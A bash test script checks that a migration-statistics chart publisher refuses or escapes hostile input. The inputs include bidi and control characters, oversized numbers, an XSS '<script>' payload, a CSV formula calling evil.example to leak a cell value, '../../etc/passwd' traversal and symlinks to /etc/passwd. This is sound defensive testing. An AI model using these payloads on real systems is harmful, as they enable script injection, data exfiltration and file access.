#!/usr/bin/env bash
# Hostile input (issue 10): what a source server, an editor's file or
# someone with write access to the publish directory could send.  Each case
# is refused with an error naming the file and place, or published escaped:
#   - labels with markup and quotes: escaped in SVG, HTML and CSV;
#   - bidi overrides, control characters, NUL (raw or \u0000), invalid
#     UTF-8, multi-megabyte strings, deep nesting, 1e999 / NaN / 1e308,
#     duplicate category codes, negative counts: refused;
#   - ../ in chart ids, source ids, dataset names, control-line ids: refused;
#   - symbolic links planted in the publish directory: refused, not followed.
source "$(dirname "$0")/lib.sh"
make_config
CTL=$BIN/migstatctl
J=$SRC/data/asylum_applications_monthly.json
T=$SRC/data/deportations_yearly_de.csv
H=$TMP/h
mkdir -p "$H"

# refused NAME KIND FILE EXPECT_RE: `migstatctl inspect` (the parsers every
# cycle uses) fails and says /EXPECT_RE/, naming the file.
refused() {
  local name=$1 kind=$2 file=$3 expect=$4 out rc=0
  out=$("$CTL" inspect --kind "$kind" "$file" 2>&1 >/dev/null) || rc=$?
  check "$name: refused" test "$rc" -ne 0
  check "$name: names the file and says /$expect/" grep -Eq -- "$(basename "$file").*$expect" <<<"$out"
  echo "    ${out:0:220}"
}

# --- source data -----------------------------------------------------------
jq -c '.dimension.geo.category.label.AT = "A\u202eT"' "$J" > "$H/bidi.json"
refused "bidi override in a label" jsonstat "$H/bidi.json" 'label of category "AT": .*bidirectional control U\+202E'
jq -c '.dimension.geo.category.label.AT = "A\u0007T"' "$J" > "$H/bell.json"
refused "control character in a label" jsonstat "$H/bell.json" 'control character U\+0007'
jq -c '.dimension.geo.category.label.AT = "A\u0000T"' "$J" > "$H/nul-escape.json"
refused "\\u0000 in a label" jsonstat "$H/nul-escape.json" ':1:[0-9]+: expected text, got the escape \\u0000'
python3 -c "import sys; d = open(sys.argv[1], 'rb').read(); sys.stdout.buffer.write(d.replace(b'\"Austria\"', b'\"Aus\x00tria\"'))" \
  "$J" > "$H/nul-raw.json"
refused "NUL byte in a label" jsonstat "$H/nul-raw.json" ':1:[0-9]+: expected text, got a NUL byte'
python3 -c "import sys; d = open(sys.argv[1], 'rb').read(); sys.stdout.buffer.write(d.replace(b'\"Austria\"', b'\"Aus\xfftria\"'))" \
  "$J" > "$H/utf8.json"
refused "invalid UTF-8 in a label" jsonstat "$H/utf8.json" 'expected UTF-8, got byte 0xFF'
python3 -c "
import json, sys
d = json.load(open(sys.argv[1])); d['dimension']['geo']['category']['label']['AT'] = 'x' * 3000000
json.dump(d, open(sys.argv[2], 'w'))" "$J" "$H/big-label.json"
refused "3 MB label" jsonstat "$H/big-label.json" 'label of category "AT": expected at most 2048 bytes, got 3000000'
python3 -c "print('[' * 100000 + ']' * 100000)" > "$H/deep.json"
refused "100000 nested arrays" jsonstat "$H/deep.json" ':1:1001: expected valid JSON'
python3 -c "
import sys; d = open(sys.argv[1]).read(); i = d.index('\"value\":[') + 9
print(d[:i] + sys.argv[2] + ',' + d[i:].split(',', 1)[1], end='')" "$J" 1e999 > "$H/inf.json"
refused "1e999 (beyond a double)" jsonstat "$H/inf.json" 'cell citizen=TOTAL, .*geo=DE, time=2012-01: expected a finite number, got \+Inf'
python3 -c "
import sys; d = open(sys.argv[1]).read(); i = d.index('\"value\":[') + 9
print(d[:i] + sys.argv[2] + ',' + d[i:].split(',', 1)[1], end='')" "$J" NaN > "$H/nan.json"
refused "NaN (not JSON)" jsonstat "$H/nan.json" ":1:[0-9]+: expected valid JSON, got 'N'"
jq -c '.value[0] = 1e308' "$J" > "$H/huge.json"
refused "1e308" jsonstat "$H/huge.json" 'geo=DE, time=2012-01: expected a magnitude of at most 1e\+15, got 1e\+308'
jq -c '.dimension.geo.category.index = (.dimension.geo.category.index | to_entries | sort_by(.value) | map(.key) | .[1] = "DE")' \
  "$J" > "$H/dup.json"
refused "duplicate category code" jsonstat "$H/dup.json" 'category "DE" listed twice'
{ head -3 "$T"; sed -n 3p "$T"; } > "$H/dup.csv"
refused "duplicate row in a table" table "$H/dup.csv" ':4:1: expected each combination of codes once'
{ head -2 "$T"; printf 'DE,deport\xe2\x80\xaeations,2015,5,\n'; } > "$H/bidi.csv"
refused "bidi override in a table code" table "$H/bidi.csv" 'category code: .*bidirectional control U\+202E'
{ head -2 "$T"; echo "DE,deportations,2015,1e400,"; } > "$H/inf.csv"
refused "1e400 in a table" table "$H/inf.csv" ':3:[0-9]+: column 4 \(value\): expected a number'
{ head -2 "$T"; echo "DE,deportations,2015,-5,"; } > "$H/neg.csv"
refused "negative count in a table" table "$H/neg.csv" ':3:[0-9]+: column 4 \(value\): expected a count \(>= 0\), got -5'

# --- one cycle with markup and quotes everywhere: published, escaped --------
PUB=$TMP/pub
MARK=$'<script>alert(1)</script> <b onmouseover="x()">"q" \'s\' & &amp;'
# ... and a code a spreadsheet would run as a formula (CSV injection).
FORMULA='=HYPERLINK("http://evil.example/?"&A1,"click")'
# Planted as two reporting countries (AT, BE) of the Eurostat JSON-stat and,
# so that they get a rate, of the World Bank's answer.
python3 - "$TMP/data/eurostat_migr_asyappctza.json" "$TMP/data/worldbank_population.json" "$MARK" "$FORMULA" <<'PY'
import json, sys
es_path, wb_path, mark, formula = sys.argv[1:]
rename = {"AT": mark, "BE": formula}
es = json.load(open(es_path))
idx = es["dimension"]["geo"]["category"]["index"]
es["dimension"]["geo"]["category"]["index"] = {rename.get(k, k): v for k, v in idx.items()}
json.dump(es, open(es_path, "w"))
wb = json.load(open(wb_path))
for r in wb[1]:
    r["country"]["id"] = rename.get(r["country"]["id"], r["country"]["id"])
json.dump(wb, open(wb_path, "w"))
PY
# The EU chart names countries from a label table: the planted code gets a
# name in it, and the name is as hostile as the code.  (The Länderprofile
# would make chart ids of the codes, refused elsewhere: left out here.)
rm "$TMP/config/charts.d/host-country-profile.json"
LABELS=$TMP/config/labels/eurostat-country.json
cp "$LABELS" "$TMP/labels.good"
jq --arg m "$MARK" --arg f "$FORMULA" '.[$m] = {de: $m, en: $m} | .[$f] = {de: $f, en: $f}' "$TMP/labels.good" > "$LABELS"
SPEC=$TMP/config/charts.d/asylum-applications-monthly.json
cp "$SPEC" "$TMP/spec.good"
jq --arg m "$MARK" '.title.en = $m | .footer.source.en = $m' "$TMP/spec.good" > "$SPEC"
check "markup: the cycle publishes" "$BIN/migstatd" --once --config "$TMP/config" --publish-dir "$PUB" >/dev/null
CUR=$PUB/current
check "markup: every SVG is well-formed XML" xmllint --noout "$CUR"/*.svg
check "markup: the title is escaped in the SVG" grep -qF '&lt;script&gt;alert(1)&lt;/script&gt; &lt;b onmouseover=&quot;x()&quot;&gt;&quot;q&quot; &#39;s&#39; &amp; &amp;amp;' \
  "$CUR/asylum-applications-monthly.en.svg"
no_script() { # no <script> or on* attribute in any HTML file (parsed, not grepped)
  python3 - "$@" <<'PY'
import html.parser, sys
bad = []
class P(html.parser.HTMLParser):
    def handle_starttag(self, tag, attrs):
        if tag == "script" or any(k.startswith("on") for k, _ in attrs) or tag == "b":
            bad.append((self.f, tag, attrs))
for f in sys.argv[1:]:
    p = P(); p.f = f; p.feed(open(f, encoding="utf-8").read())
print(bad[:3]); sys.exit(1 if bad else 0)
PY
}
check "markup: no element from the data or spec in any HTML file" no_script "$CUR"/*.html
check "markup: the CSV quotes the label and keeps it exactly" python3 - "$CUR/eu-applications-per-100k.en.csv" "$MARK" <<'PY'
import csv, sys
cells = [c for row in csv.reader(open(sys.argv[1], encoding="utf-8")) for c in row]
sys.exit(0 if sys.argv[2] in cells else 1)
PY
# A spreadsheet shows a cell that starts with an apostrophe as text.
formula_is_text() { # CSV FORMULA: the cell is there with a leading ', never bare
  python3 - "$1" "$2" <<'PY'
import csv, sys
cells = [c for row in csv.reader(open(sys.argv[1], encoding="utf-8")) for c in row]
sys.exit(0 if "'" + sys.argv[2] in cells and sys.argv[2] not in cells else 1)
PY
}
check "formula: the chart CSV makes the code and label text" formula_is_text "$CUR/eu-applications-per-100k.en.csv" "$FORMULA"
check "formula: the data CSV too" formula_is_text "$CUR/data/eurostat-applicants-annual.csv" "$FORMULA"
check "markup: the manifest carries the title as a JSON string" \
  test "$(jq -r '.charts[] | select(.id == "asylum-applications-monthly" and .lang == "en") | .title' "$CUR/index.json")" = "$MARK"
cp "$SRC/data/eurostat_migr_asyappctza.json" "$SRC/data/worldbank_population.json" "$TMP/data/"
cp "$TMP/spec.good" "$SPEC"
cp "$TMP/labels.good" "$LABELS"
check "markup: the clean data publishes again" test_rc 0 "$BIN/migstatd" --once --config "$TMP/config" --publish-dir "$PUB"
BEFORE=$(readlink "$PUB/current")

# cycle_refused NAME EXPECT_RE: --once fails saying /EXPECT_RE/; current is kept.
cycle_refused() {
  local name=$1 expect=$2 rc=0
  "$BIN/migstatd" --once --force --config "$TMP/config" --publish-dir "$PUB" >/dev/null 2>"$TMP/err" || rc=$?
  check "$name: refused" test "$rc" -ne 0
  check "$name: says /$expect/" grep -Eq -- "$expect" "$TMP/err"
  check "$name: current kept" test "$(readlink "$PUB/current")" = "$BEFORE"
  echo "    $(grep -E -- "$expect" "$TMP/err" | head -n 1 | cut -c1-220)"
}

# --- the validation gate: negative counts in JSON-stat ----------------------
jq -c '.value[87] = -5' "$J" > "$TMP/data/asylum_applications_monthly.json"
cycle_refused "negative count (JSON-stat)" 'source eurostat-asylum-monthly: validation failed, not publishing: negative: .*expected a count >= 0, got -5'
cp "$J" "$TMP/data/"

# --- ../ in ids and names ---------------------------------------------------
jq '.id = "../../etc/x"' "$TMP/spec.good" > "$SPEC"
cycle_refused "../ in a chart id" 'asylum-applications-monthly.json:[0-9]+:[0-9]+: .*id'
cp "$TMP/spec.good" "$SPEC"
SRCF=$TMP/config/sources.d/deportations-yearly.json
cp "$SRCF" "$TMP/source.good"
jq '.id = "../deportations"' "$TMP/source.good" > "$SRCF"
cycle_refused "../ in a source id" 'deportations-yearly.json:[0-9]+:[0-9]+: id: expected a string of a-z, 0-9 and .-., got \.\./deportations'
jq '.dataset = "../../etc/passwd"' "$TMP/source.good" > "$SRCF"
cycle_refused "../ as a dataset name" 'deportations-yearly.json:[0-9]+:[0-9]+: dataset: expected a dataset name .*got "\.\./\.\./etc/passwd"'
cp "$TMP/source.good" "$SRCF"
jq '.source = "../deportations-yearly"' "$TMP/spec.good" > "$SPEC"
cycle_refused "../ as a chart's source" 'asylum-applications-monthly.json.*source'
cp "$TMP/spec.good" "$SPEC"
# (the daemon's side of the same parser: test_protocol, fuzz_protocol, control_socket.sh)
check "../ on the control line: migstatctl refuses it (usage, exit 2)" test_rc 2 "$BIN/migstatctl" --socket "$TMP/none.sock" regenerate ../../etc/passwd
check "../ on the control line: and says why" grep -q 'regenerate: expected an id of \[A-Za-z0-9._-\], got "../../etc/passwd"' \
  <("$BIN/migstatctl" --socket "$TMP/none.sock" regenerate ../../etc/passwd 2>&1)

# --- symbolic links planted in the publish directory ------------------------
OUT=$TMP/outside
mkdir -p "$OUT"
cp -r "$PUB/current/." "$OUT/"
outside_sums() { (cd "$OUT" && find . -type f -exec sha256sum {} + | sort); }
outside_sums > "$TMP/outside.sums"
restore() { ln -sfn "releases/$BEFORE_NAME" "$PUB/.c" && mv -T "$PUB/.c" "$PUB/current"; }
BEFORE_NAME=${BEFORE#releases/}

ln -sfn "$OUT" "$PUB/.c" && mv -T "$PUB/.c" "$PUB/current"
BEFORE=$OUT cycle_refused "current -> a directory outside" "current points to \"$OUT\", expected releases/<name>: refusing"
restore
ln -sfn "releases/../../outside" "$PUB/.c" && mv -T "$PUB/.c" "$PUB/current"
BEFORE=releases/../../outside cycle_refused "current -> releases/../.." 'current points to "releases/../../outside", expected releases/<name>'
restore
mv "$PUB/$BEFORE" "$TMP/moved" && ln -s "$OUT" "$PUB/$BEFORE"
cycle_refused "releases/<current> replaced by a link" "releases/$BEFORE_NAME is a symbolic link \\(to $OUT\\), expected a directory"
rm "$PUB/$BEFORE" && mv "$TMP/moved" "$PUB/$BEFORE"
mv "$PUB/releases" "$TMP/releases" && ln -s "$TMP/releases" "$PUB/releases"
cycle_refused "releases/ replaced by a link" "releases is a symbolic link .*expected a directory"
rm "$PUB/releases" && mv "$TMP/releases" "$PUB/releases"
rm "$PUB/current" && mkdir "$PUB/current"
BEFORE= cycle_refused "current replaced by a directory" 'current is not a symbolic link, expected a link to releases/<name>'
rmdir "$PUB/current" && restore
# A link named like a chart file inside the current release: not followed,
# not carried forward; the next release has the real file.
F=$PUB/$BEFORE/asylum-applications-monthly.de.svg
cp "$F" "$TMP/svg.good" && rm "$F" && ln -s /etc/passwd "$F"
check "a chart file replaced by a link to /etc/passwd: the next release publishes" \
  test_rc 0 "$BIN/migstatd" --once --force --config "$TMP/config" --publish-dir "$PUB"
NEW=$PUB/$(readlink "$PUB/current")
check "  its chart file is a regular file" test -f "$NEW/asylum-applications-monthly.de.svg" -a ! -L "$NEW/asylum-applications-monthly.de.svg"
check "  with the chart, not /etc/passwd" cmp -s "$NEW/asylum-applications-monthly.de.svg" "$TMP/svg.good"
mv "$PUB/editions" "$TMP/editions" && ln -s "$OUT" "$PUB/editions"
"$BIN/migstatd" --once --force --config "$TMP/config" --publish-dir "$PUB" >/dev/null 2>"$TMP/err" || true
check "editions/ replaced by a link: refused, says so" grep -q "editions is a symbolic link (to $OUT), expected a directory" "$TMP/err"
check "nothing outside the publish directory was written" diff "$TMP/outside.sums" <(outside_sums)
check "/etc/passwd is untouched (still root's passwd)" grep -q '^root:' /etc/passwd
finish
